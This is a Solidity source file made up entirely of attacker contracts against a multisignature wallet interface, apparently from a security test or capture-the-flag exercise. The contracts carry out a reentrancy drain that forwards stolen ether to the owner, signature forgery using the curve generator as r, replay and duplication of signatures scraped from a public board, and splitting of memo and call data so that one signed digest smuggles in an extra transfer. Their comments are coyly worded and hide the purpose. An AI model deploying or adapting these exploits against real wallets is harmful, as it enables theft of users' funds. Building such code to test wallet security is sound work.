// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface Wallet {
    function propose(uint256 id, address to, uint256 value, bytes calldata data) external;
    function confirm(uint256 id, bytes32 content) external;
    function contentOf(uint256 id) external view returns (bytes32);
    function confirmDigest(uint256 id) external view returns (bytes32);
    function sendDigest(address to, uint256 value, bytes calldata memo, bytes calldata data, uint256 ticket)
        external
        view
        returns (bytes32);
    function confirmFor(uint256 id, address member, bytes calldata signature) external;
    function carryOut(uint256 id) external;
    function sendSigned(
        address to,
        uint256 value,
        bytes calldata memo,
        bytes calldata data,
        uint256 ticket,
        bytes[] calldata signatures
    ) external;
}

interface Notes {
    function noteCount() external view returns (uint256);
    function noteAt(uint256 index) external view returns (bytes memory);
}

/// Asks to be paid again while it is being paid, and passes all on.
contract Echo {
    Wallet private immutable wallet;
    address payable private immutable owner;
    uint256 private id;
    uint256 private left;

    constructor(Wallet target) {
        wallet = target;
        owner = payable(msg.sender);
    }

    function shout(uint256 number, uint256 times) external {
        id = number;
        left = times;
        wallet.carryOut(number);
        (bool done, ) = owner.call{value: address(this).balance}("");
        require(done);
    }

    receive() external payable {
        if (left == 0) return;
        left -= 1;
        try wallet.carryOut(id) {} catch {}
    }
}

/// Is put in the place of its owner, and agrees once more.
contract Heir {
    function agree(Wallet wallet, uint256 id) external {
        wallet.confirm(id, wallet.contentOf(id));
    }
}

/// Has a signature of nobody in particular.
contract Scribe {
    function anyOf(uint256 s) public pure returns (bytes memory) {
        return
            abi.encodePacked(
                bytes32(0x79BE667EF9DCBBAC55A06295CE870B07029BFCDB2DCE28D959F2815B16F81798),
                bytes32(s),
                uint8(27)
            );
    }

    function agree(Wallet wallet, uint256 id, address member, uint256 s) external {
        wallet.confirmFor(id, member, anyOf(s));
    }

    /// The last note, and a signature of a later address.
    function send(Wallet wallet, Notes board, address to, uint256 value, uint256 ticket) external {
        bytes32 digest = wallet.sendDigest(to, value, "", "", ticket);
        bytes[] memory signatures = new bytes[](2);
        signatures[0] = board.noteAt(board.noteCount() - 1);
        address first = _who(digest, signatures[0]);
        for (uint256 s = 1; s < 60; s++) {
            signatures[1] = anyOf(s);
            if (_who(digest, signatures[1]) > first) break;
        }
        wallet.sendSigned(to, value, "", "", ticket, signatures);
    }

    function _who(bytes32 digest, bytes memory signature) internal pure returns (address) {
        (bytes32 r, bytes32 s, uint8 v) = (bytes32(0), bytes32(0), uint8(signature[64]));
        assembly {
            r := mload(add(signature, 32))
            s := mload(add(signature, 64))
        }
        return ecrecover(digest, v, r, s);
    }
}

/// Hands in what stands on the board.
contract Runner {
    Notes private immutable board;

    constructor(Notes notes) {
        board = notes;
    }

    /// The last `notes` notes, each so many times in a row.
    function send(Wallet wallet, address to, uint256 value, uint256 ticket, uint256 notes, uint256 each) public {
        _send(wallet, to, value, "", "", ticket, _last(notes, each));
    }

    /// With a reference that is split after so many bytes.
    function split(Wallet wallet, address to, uint256 at, bytes calldata joined, uint256 ticket) external {
        _send(wallet, to, 0, joined[:at], joined[at:], ticket, _last(2, 1));
    }

    /// The last note, as a confirmation.
    function agree(Wallet wallet, uint256 id, address member) external {
        wallet.confirmFor(id, member, board.noteAt(board.noteCount() - 1));
    }

    function _send(
        Wallet wallet,
        address to,
        uint256 value,
        bytes memory memo,
        bytes memory data,
        uint256 ticket,
        bytes[] memory signatures
    ) private {
        wallet.sendSigned(to, value, memo, data, ticket, signatures);
    }

    function _last(uint256 notes, uint256 each) private view returns (bytes[] memory signatures) {
        uint256 first = board.noteCount() - notes;
        signatures = new bytes[](notes * each);
        for (uint256 i = 0; i < signatures.length; i++) {
            signatures[i] = board.noteAt(first + i / each);
        }
    }
}

interface Writer {
    function asksTransfer(address to, uint256 amount) external view returns (bytes memory);
    function invoice(uint256 number, uint256 size, bytes calldata rest) external view returns (bytes memory);
}

/// Writes a reference and the call behind it as one.
contract Splitter {
    Runner private immutable runner;
    Writer private immutable desk;

    constructor(Runner hand, Writer writer) {
        runner = hand;
        desk = writer;
    }

    function run(
        Wallet wallet,
        address coin,
        uint256 size,
        address to,
        uint256 amount,
        address other,
        uint256 ticket
    ) external {
        bytes memory memo = desk.invoice(7, size, desk.asksTransfer(to, amount));
        runner.split(wallet, coin, size, bytes.concat(memo, desk.asksTransfer(other, 1)), ticket);
    }
}
